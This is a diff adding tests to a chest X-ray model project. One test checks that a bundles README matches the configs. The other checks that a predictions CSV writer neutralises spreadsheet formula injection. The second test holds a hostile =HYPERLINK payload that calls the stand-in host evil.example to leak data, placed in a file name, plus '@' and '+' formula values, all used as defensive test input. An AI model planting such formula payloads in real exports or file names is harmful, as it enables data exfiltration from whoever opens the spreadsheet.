@@ -87,6 +87,25 @@ def test_bundles_readme_lists_the_bundles() -> None:
         assert name in text
 
 
+def test_bundles_readme_follows_the_configs() -> None:
+    """The overview names what the configs of the current version do: the auditors'
+    outputs, the evaluation's gate switches and default, and the configs' version."""
+    from monai_forget.bundles.withdrawal import AUDIT_SET
+
+    text = " ".join((CXR.parent / "README.md").read_text().split())
+    for root in BUNDLES.values():
+        configs = _configs(root)
+        assert f"version {configs['metadata']['version']}" in text, root.name
+        outputs = ["ks.json", "ema.json", "report.html", "reference.json"]
+        if "[@refmodel_auditor]" in json.dumps(configs["audit"]):  # it runs first
+            outputs += ["refmodel.json", AUDIT_SET, "p_member"]
+        gates = [k for k in configs["evaluate"] if k.startswith("gate_")]
+        assert gates and configs["evaluate"]["gate_refmodel"] is True, root.name
+        missing = [name for name in outputs + gates if name not in text]
+        assert not missing, f"bundles/README.md does not mention {missing} ({root.name})"
+    assert "decides" in text and "reference-model audit" in text
+
+
 # --- item 13: chest X-ray pixels as the model saw them --------------------------------
 
 
@@ -141,6 +160,22 @@ def test_predictions_csv_has_the_image_file_and_id_columns(tmp_path: Path) -> No
     assert list(rows[0]) == ["image", "patient", "label", "pred", "p_normal", "p_pneumonia"]
     assert [r["image"] for r in rows] == ["/xr/a.png", "/xr/b.png"]
     assert [r["patient"] for r in rows] == ["p1", "p2"] and [r["pred"] for r in rows] == ["1", "0"]
+
+
+def test_predictions_csv_neutralises_formulas_like_the_manifest(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak","x").png'
+    writer = PredictionWriter(tmp_path / "predictions.csv", class_names=["normal", "pneumonia"])
+    batch = [{"image_path": hostile, "patient": "@SUM(A1)", "slice": torch.tensor(-3)},
+             {"image_path": "/xr/b.png", "patient": "+p2", "slice": torch.tensor(4)}]  # fmt: skip
+    output = [{"pred": torch.tensor([0.25, 0.75])}, {"pred": torch.tensor([0.9, 0.1])}]
+    engine = Engine(lambda e, b: output)
+    writer.attach(engine)
+    engine.run([batch], max_epochs=1)
+    rows = list(csv.DictReader((tmp_path / "predictions.csv").open(newline="")))
+    assert [r["image"] for r in rows] == ["'" + hostile, "/xr/b.png"]
+    assert [r["patient"] for r in rows] == ["'@SUM(A1)", "'+p2"]
+    assert [r["slice"] for r in rows] == ["-3", "4"]  # numbers stay numbers, negative too
+    assert [float(r["p_pneumonia"]) for r in rows] == [0.75, 0.1]
 
 
 def test_existing_output_hint_names_the_bundle_flag(tmp_path: Path) -> None:
